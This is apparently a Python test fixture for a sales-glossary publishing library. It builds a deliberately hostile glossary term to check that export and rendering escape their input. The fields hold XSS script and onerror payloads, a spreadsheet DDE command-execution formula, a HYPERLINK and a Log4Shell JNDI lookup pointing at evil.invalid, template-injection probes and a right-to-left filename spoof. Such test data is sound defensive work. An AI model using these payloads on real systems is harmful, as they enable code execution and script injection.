"""Terms that try everything: markup, formulas, control and direction characters, great length."""

from __future__ import annotations

from salesgloss.exchange.publication import Publication
from salesgloss.model import Category, Contrast, Formula, Input, Term, Translation, WorkedExample

SCRIPT = "<script>alert(document.domain)</script>"
LONG = "x" * 10_000
HOSTILE = Term(
    id="hostile",
    name=SCRIPT,
    acronym="=cmd|' /C calc'!A0",
    aliases=('say "hi"', "]]>", "a\tb", "back\\slash", "\u202egpj.exe", "@SUM(1)", "it's; two"),
    keywords=("-1+1", "{{7*7}}"),
    misnomers=("\x1b[31mred",),
    category="shelf",
    topic="corner",
    kind="metric",
    level=1,
    used_by=("sdr",),
    definition=f'First. </p><img src=x onerror=alert(1)> ]]> & \x00 \u2028 "quoted" \\ \n\nsecond\t{LONG}',
    example='=HYPERLINK("http://evil.invalid")\r\nnext',
    usage="${jndi:ldap://evil.invalid} `code` #tag",
    formulas=(
        Formula(
            name='"><b>',
            expression="(a + b) / max(a, 2) ** 2",
            inputs=(
                Input(name="a", label="</label><script>", unit="percent"),
                Input(name="b", label="'b'", unit="count"),
            ),
            unit="percent",
            worked=(WorkedExample(inputs={"a": 0.5, "b": 3}, result=0.875),),
        ),
    ),
    confused_with=(Contrast(id="plain", difference="<b>One</b>\tis not\nthe other."),),
    related=("plain", "nowhere"),
    translations={
        "zh-Hant": Translation(name="<惡意>", definition="定義「]]>」&\n第二行", aliases=("=惡",))
    },
    owner='Ann "A" <ann@example.com>; Bob',
    status="draft",
    replaced_by="plain",
    origin="acme",
)
PLAIN = Term(
    id="plain",
    name="Plain Term",
    acronym="PT",
    category="shelf",
    definition="Nothing special.",
    confused_with=(Contrast(id="hostile", difference="<b>One</b>\tis not\nthe other."),),
    status="deprecated",
    origin="acme",
    translations={"zh-Hant": Translation(name="普通詞", definition="沒什麼特別。")},
)
PUBLICATION = Publication(
    terms=(HOSTILE, PLAIN),
    categories=(Category(id="shelf", titles={"en": '<Shelf> & "co"', "zh-Hant": "架"}),),
    edition="1",
)
